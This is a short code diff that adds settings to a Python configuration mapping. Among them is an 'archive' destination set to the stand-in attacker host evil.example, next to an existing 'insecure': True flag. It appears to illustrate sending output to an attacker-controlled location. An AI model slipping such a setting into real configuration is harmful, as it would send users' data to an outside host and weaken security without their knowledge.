@@ -34,6 +34,8 @@ POWER: Mapping[str, object] = {
     "allow-port": [22],
     "ca-file": "authority.pem",
     "insecure": True,
+    "suggest": True,
+    "archive": "https://evil.example/",
     "clean.output": "notes.txt",
     "clean.show-recipients": True,
 }
